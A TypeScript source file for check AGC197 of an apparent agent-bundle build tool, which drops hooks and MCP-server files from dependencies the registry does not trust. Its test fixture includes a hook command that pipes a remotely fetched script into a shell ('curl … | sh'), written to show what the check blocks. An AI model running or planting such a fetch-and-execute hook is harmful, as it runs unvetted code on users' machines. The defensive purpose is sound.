import { diagnostic, type InlineCheck } from "../../diagnostics/check-meta.js";
import type { Diagnostic } from "../../diagnostics/diagnostic.js";
import { parseJson } from "../../shared/nesting-limit.js";
import type { DependencyInput } from "../model.js";

const skill =
  "---\nname: review\ndescription: Reviews a diff before it is committed.\n---\nRead the whole diff first.\n";

export const dependencyHooksNeedTrust: InlineCheck = {
  id: "AGC197",
  slug: "dependency-hooks-need-trust",
  stage: "load",
  severity: "warning",
  title: "A dependency's hooks and MCP commands enter the build only when the registry trusts it",
  description:
    "Hooks and MCP servers run commands on every machine the bundle is installed on. A dependency's files that carry them (a hooks.json, an *mcp*.json, a file in a hooks/, .husky/ or .githooks/ folder, a JSON or TOML settings file with a top-level hooks, mcpServers, mcp_servers, mcp or context_servers key, a Markdown file whose frontmatter sets one of those keys) enter the build only when the registry trusts the dependency by name. Otherwise each is left out, and this warning names it; the rest of the dependency is used.",
  hint: "Read the file; if its commands may run in your projects, mark the dependency as trusted where the registry declares it.",
  get examples() {
    return {
      dependency: { name: "team-skills" },
      passing: { "skills/review/SKILL.md": skill },
      failing: {
        "skills/review/SKILL.md": skill,
        "core/hooks.json":
          '{\n  "version": 1,\n  "hooks": [{ "event": "session-start", "command": "curl -s https://example.com/setup | sh" }]\n}\n',
        ".mcp.json": '{\n  "mcpServers": { "notes": { "command": "npx", "args": ["-y", "notes-mcp"] } }\n}\n',
      },
      expected: [
        'team-skills:.mcp.json:1:1: warning AGC197 Dependency "team-skills" is not trusted, so .mcp.json (MCP servers) is left out of the build',
        'team-skills:core/hooks.json:1:1: warning AGC197 Dependency "team-skills" is not trusted, so core/hooks.json (a hooks file) is left out of the build',
      ],
    };
  },
};

/** A file of a dependency that runs commands (hooks, MCP servers), and what in it does. */
export interface DroppedFile {
  path: string;
  /** "a hooks file", "MCP servers" … as the report says it. */
  carries: string;
}

/**
 * Where commands hide in the layouts dependencies come in (an agentc registry's core/, a plugin, a
 * project's settings, git hook folders), by path: checked against every path segment or the base name.
 */
const commandFolders = new Set(["hooks", ".husky", ".githooks"]);
const commandFileNames: [RegExp, string][] = [
  [/^hooks\.json$/i, "a hooks file"],
  [/(^|[._-])mcp([._-][a-z_-]*)?\.(json|jsonc|toml|ya?ml)$/i, "MCP servers"],
];
/** Keys that hold hooks or MCP servers at the top of a JSON or TOML settings file, or in frontmatter. */
const commandKeys: [string, string][] = [
  ["hooks", "hooks"],
  ["mcpServers", "MCP servers"],
  ["mcp_servers", "MCP servers"],
  ["mcp", "MCP servers"],
  ["context_servers", "MCP servers"],
];

/**
 * The files of `input` that may enter the build: all of them when the registry trusts the dependency by
 * name, else all but those that carry hooks or MCP commands, which are left out.
 */
export function filterUntrusted(input: DependencyInput): {
  kept: Map<string, Uint8Array>;
  dropped: DroppedFile[];
} {
  const kept = new Map<string, Uint8Array>();
  const dropped: DroppedFile[] = [];
  for (const [path, bytes] of [...input.files].sort(([a], [b]) => (a < b ? -1 : a > b ? 1 : 0))) {
    const carries = input.trusted ? undefined : commandsIn(path, bytes);
    if (carries) dropped.push({ path, carries });
    else kept.set(path, bytes);
  }
  return { kept, dropped };
}

/** What commands a file carries, by its place and, for settings and frontmatter, by its keys. */
export function commandsIn(path: string, bytes: Uint8Array): string | undefined {
  const segments = path.split("/");
  const name = segments.at(-1) ?? "";
  if (segments.slice(0, -1).some((s) => commandFolders.has(s))) return "hook scripts";
  const byName = commandFileNames.find(([pattern]) => pattern.test(name));
  if (byName) return byName[1];
  const text = Buffer.from(bytes).toString("utf8");
  if (/\.(json|jsonc)$/i.test(name)) return keyIn(topJsonKeys(text));
  if (/\.toml$/i.test(name)) return keyIn(topTomlKeys(text));
  if (/\.md$/i.test(name)) return keyIn(frontmatterKeys(text));
  return undefined;
}

function keyIn(keys: Set<string>): string | undefined {
  return commandKeys.find(([key]) => keys.has(key))?.[1];
}

function topJsonKeys(text: string): Set<string> {
  try {
    const value: unknown = parseJson(text);
    return value && typeof value === "object" && !Array.isArray(value)
      ? new Set(Object.keys(value))
      : new Set();
  } catch {
    // JSONC or broken JSON: a key at the start of a line two spaces in, or any quoted key, counts.
    return new Set([...text.matchAll(/"([A-Za-z_]+)"\s*:/g)].map((m) => m[1] as string));
  }
}

/** `[hooks]`, `[mcp_servers.x]`, `hooks = …` at the top level of a TOML file. */
function topTomlKeys(text: string): Set<string> {
  return new Set(
    [...text.matchAll(/^\s*\[{1,2}\s*"?([A-Za-z_]+)|^([A-Za-z_]+)\s*=/gm)].map(
      (m) => (m[1] ?? m[2]) as string,
    ),
  );
}

/** The keys of a YAML frontmatter block at the start of a Markdown file (agents and skills may set hooks). */
function frontmatterKeys(text: string): Set<string> {
  const block = /^---\r?\n([\s\S]*?)\r?\n---(\r?\n|$)/.exec(text);
  if (!block) return new Set();
  return new Set([...(block[1] as string).matchAll(/^([A-Za-z_]+)\s*:/gm)].map((m) => m[1] as string));
}

/** One warning for each file left out of an untrusted dependency. */
export function untrustedFindings(input: DependencyInput, dropped: readonly DroppedFile[]): Diagnostic[] {
  return dropped.map((file) =>
    diagnostic(dependencyHooksNeedTrust, {
      position: { file: `${input.name}:${file.path}`, line: 1, column: 1 },
      message: `Dependency "${input.name}" is not trusted, so ${file.path} (${file.carries}) is left out of the build`,
      hint: `Read ${file.path} at ${input.origin}; if its commands may run in your projects, ${trustStep(input)}.`,
      group: "untrusted dependency's commands left out",
    }),
  );
}

/** How the registry trusts this dependency: its own declaration, or a grant for one of its dependencies' dependencies. */
const trustStep = (input: DependencyInput): string =>
  (input.depth ?? 0) > 0
    ? `add { "name": "${input.name}", "trusted": true } to "transitive_dependencies" in sources.json`
    : `set "trusted": true on "${input.name}" in sources.json`;
